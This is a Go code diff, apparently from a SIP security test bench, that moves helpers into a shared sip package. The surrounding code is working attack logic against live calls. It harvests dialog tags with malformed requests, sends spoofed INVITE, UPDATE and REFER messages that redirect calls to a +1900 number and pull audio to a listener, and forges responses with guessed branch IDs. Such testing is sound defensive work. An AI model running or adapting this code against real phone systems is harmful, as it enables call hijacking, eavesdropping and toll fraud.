@@ -6,6 +6,8 @@ import (
 	"net/netip"
 	"strings"
 	"time"
+
+	"flowbridge/scripts/internal/sip"
 )
 
 // probe looks for the tags of another's live call, and takes the call over with what it
@@ -69,15 +71,15 @@ func takeOver(s *system, carrier *peer, from netip.Addr, knows bool, count *tall
 		return 0, 0, err
 	}
 	defer ear.close()
-	b := ids{callID: s.agent.inviteTo(number, time.Second).header("Call-ID"), number: number, cseq: 1}
+	b := ids{callID: s.agent.inviteTo(number, time.Second).Header("Call-ID"), number: number, cseq: 1}
 	b.fromTag = "agent"
-	toAgent := s.agent.inviteTo(number, time.Second).tag("From")
+	toAgent := s.agent.inviteTo(number, time.Second).Tag("From")
 
 	learned := map[string]bool{}
 	for _, via := range []string{"", carrier.addr.String()} {
 		for _, branch := range []string{live.branch, "z9hG4bKother" + live.fromTag} {
 			for _, m := range askForTags(attacker, live.ids, via, branch) {
-				if tag := m.tag("To"); tag != "" {
+				if tag := m.Tag("To"); tag != "" {
 					learned[tag] = true
 				}
 			}
@@ -96,9 +98,9 @@ func takeOver(s *system, carrier *peer, from netip.Addr, knows bool, count *tall
 	for i, t := range targets {
 		t.via, t.cseq = "", t.cseq+10+i*10
 		t.branch = fmt.Sprintf("z9hG4bKtake%d%08x", i, rand.Uint32())
-		attacker.send(t.request("INVITE", attacker.addr, "", sdpAt(ear.addr)))
+		attacker.send(t.request("INVITE", attacker.addr, "", sip.Description(ear.addr)))
 		t.cseq, t.branch = t.cseq+1, t.branch+"u"
-		attacker.send(t.request("UPDATE", attacker.addr, "", sdpAt(ear.addr)))
+		attacker.send(t.request("UPDATE", attacker.addr, "", sip.Description(ear.addr)))
 		t.cseq, t.branch = t.cseq+1, t.branch+"r"
 		attacker.send(t.request("REFER", attacker.addr, "Refer-To: <sip:+1900@"+from.String()+">\r\n", ""))
 		time.Sleep(50 * time.Millisecond)
@@ -113,7 +115,7 @@ func takeOver(s *system, carrier *peer, from netip.Addr, knows bool, count *tall
 }
 
 // askForTags sends what is answered without state, and gives the answers.
-func askForTags(attacker *peer, i ids, via, branch string) []message {
+func askForTags(attacker *peer, i ids, via, branch string) []sip.Message {
 	i.via, i.branch, i.toTag = via, branch, ""
 	for _, method := range []string{"OPTIONS", "INVITE", "CANCEL", "BYE", "MESSAGE", "REGISTER", "SUBSCRIBE"} {
 		for _, more := range []string{"", "Record-Route: <broken\r\n", "Contact: <sip:\r\n", "Authorization: x\r\n", "Require: nonsense\r\n"} {
@@ -183,25 +185,25 @@ func forgeOne(s *system, carrier *peer, from netip.Addr, status string, count *t
 		return false, "", err
 	}
 	defer ear.close()
-	own := invite.branch()
+	own := invite.Branch()
 	flipped := own[:len(own)-1] + string('0'+'1'-own[len(own)-1]&1)
 	for i, branch := range []string{"z9hG4bKguess", "", own[:len(own)-8], own + "0", flipped, strings.ToUpper(own), live.branch} {
-		m := message(strings.Replace(string(invite), "branch="+own, "branch="+branch, 1))
-		forger.send("SIP/2.0 " + status + "\r\n" + m.lines("Via", "From", "Call-ID", "CSeq") + fmt.Sprintf("To: %s;tag=forger%d\r\n", m.header("To"), i) +
-			"WWW-Authenticate: Digest realm=\"x\", nonce=\"y\"\r\nContact: <sip:" + forger.addr.String() + ">\r\n" + withBody(sdpAt(ear.addr)))
+		m := sip.Message(strings.Replace(string(invite), "branch="+own, "branch="+branch, 1))
+		forger.send("SIP/2.0 " + status + "\r\n" + m.Lines("Via", "From", "Call-ID", "CSeq") + fmt.Sprintf("To: %s;tag=forger%d\r\n", m.Header("To"), i) +
+			"WWW-Authenticate: Digest realm=\"x\", nonce=\"y\"\r\nContact: <sip:" + forger.addr.String() + ">\r\n" + sip.WithBody(sip.Description(ear.addr)))
 	}
-	early := carrier.await(700*time.Millisecond, func(m message) bool {
-		return m.header("Call-ID") == live.callID && !m.is("INVITE") && !m.is("180")
+	early := carrier.await(700*time.Millisecond, func(m sip.Message) bool {
+		return m.Header("Call-ID") == live.callID && !m.Is("INVITE") && !m.Is("180")
 	})
 	if early != "" {
-		return false, "the caller got " + early.start(), nil
+		return false, "the caller got " + early.Start(), nil
 	}
-	s.agent.answer(invite.header("Call-ID"))
-	live.last = carrier.await(5*time.Second, func(m message) bool { return m.header("Call-ID") == live.callID && m.is("200") })
+	s.agent.answer(invite.Header("Call-ID"))
+	live.last = carrier.await(5*time.Second, func(m sip.Message) bool { return m.Header("Call-ID") == live.callID && m.Is("200") })
 	if live.last == "" {
 		return false, "the agent's own answer does not count any more", nil
 	}
-	live.toTag, live.port = live.last.tag("To"), live.last.mediaPort()
+	live.toTag, live.port = live.last.Tag("To"), live.last.MediaPort()
 	live.ack()
 	heard := live.isHeard(s.agent)
 	switch {
@@ -227,7 +229,7 @@ func branches(b *bench) ([]*row, error) {
 	}
 	defer carrier.close()
 	began, count := time.Now(), &tally{}
-	neighbour, err := newPeer(neighbourAddr, 5060, count, func(*peer, message) {})
+	neighbour, err := newPeer(neighbourAddr, 5060, count, func(*peer, sip.Message) {})
 	if err != nil {
 		return nil, err
 	}
@@ -239,7 +241,7 @@ func branches(b *bench) ([]*row, error) {
 		guess.branch, guess.via = honest.branch, carrier.addr.String()
 		ear := netip.AddrPortFrom(neighbourAddr, 20000)
 		if n%2 == 0 {
-			neighbour.send(guess.request("INVITE", neighbour.addr, "", sdpAt(ear)))
+			neighbour.send(guess.request("INVITE", neighbour.addr, "", sip.Description(ear)))
 			time.Sleep(200 * time.Millisecond)
 		}
 		c, err := dialAs(carrier, honest, credentials{}, false, 4*time.Second)
